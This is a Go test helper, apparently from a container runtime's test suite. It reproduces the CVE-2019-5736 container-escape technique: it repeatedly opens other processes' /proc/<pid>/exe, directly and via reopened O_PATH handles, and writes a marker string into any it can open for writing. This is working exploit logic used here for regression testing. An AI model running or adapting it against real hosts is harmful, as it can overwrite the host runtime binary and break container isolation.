// Command exeattack is the CVE-2019-5736 payload that TestRuntimeBinaryOverwrite
// runs inside a container. Over and over until the stop file appears, it
// opens /proc/<pid>/exe of every other process it can see, both directly
// for writing and as an O_PATH handle that it later reopens for writing
// through /proc/self/fd/N (the way the original exploit waited for the
// runtime to exit and ETXTBSY to go away). Each distinct outcome is
// appended once to the log; a successful open is followed by a write.
package main

import (
	"errors"
	"flag"
	"fmt"
	"os"
	"strconv"
	"time"

	"golang.org/x/sys/unix"
)

func main() {
	logPath := flag.String("log", "", "append outcomes here")
	stopPath := flag.String("stop", "", "stop once this file exists")
	flag.Parse()
	seen := map[string]bool{}
	record := func(format string, args ...any) {
		line := fmt.Sprintf(format, args...)
		if seen[line] {
			return
		}
		seen[line] = true
		f, err := os.OpenFile(*logPath, os.O_WRONLY|os.O_APPEND|os.O_CREATE, 0o644)
		if err != nil {
			os.Exit(2)
		}
		fmt.Fprintln(f, line)
		f.Close()
	}
	self := os.Getpid()
	held := map[int]int{} // pid → O_PATH fd of its /proc/<pid>/exe
	for {
		_, err := os.Stat(*stopPath)
		stopping := err == nil
		entries, _ := os.ReadDir("/proc")
		for _, e := range entries {
			pid, err := strconv.Atoi(e.Name())
			if err != nil || pid == self {
				continue
			}
			exe := fmt.Sprintf("/proc/%d/exe", pid)
			if _, ok := held[pid]; !ok {
				if fd, err := unix.Open(exe, unix.O_PATH|unix.O_CLOEXEC, 0); err == nil {
					held[pid] = fd
					target, _ := os.Readlink(fmt.Sprintf("/proc/self/fd/%d", fd))
					record("opath pid=%d ok target=%s", pid, target)
				} else {
					record("opath pid=%d err=%s", pid, errName(err))
				}
			}
			attemptWrite(record, "direct", pid, exe)
		}
		for pid, fd := range held {
			_, err := os.Stat(fmt.Sprintf("/proc/%d", pid))
			kind := "reopen-running"
			if err != nil {
				kind = "reopen-exited"
			}
			attemptWrite(record, kind, pid, fmt.Sprintf("/proc/self/fd/%d", fd))
		}
		if stopping {
			record("stopped")
			return
		}
		time.Sleep(time.Millisecond)
	}
}

// attemptWrite opens path for writing and, if that works, writes to it.
func attemptWrite(record func(string, ...any), kind string, pid int, path string) {
	fd, err := unix.Open(path, unix.O_WRONLY|unix.O_APPEND|unix.O_CLOEXEC, 0)
	if err != nil {
		if !errors.Is(err, unix.ENOENT) && !errors.Is(err, unix.ESRCH) {
			record("%s pid=%d err=%s", kind, pid, errName(err))
		}
		return
	}
	defer unix.Close(fd)
	_, werr := unix.Write(fd, []byte("\nexeattack was here\n"))
	record("%s pid=%d OPENED-FOR-WRITE write-err=%v", kind, pid, werr)
}

func errName(err error) string {
	var errno unix.Errno
	if errors.As(err, &errno) {
		return unix.ErrnoName(errno)
	}
	return err.Error()
}
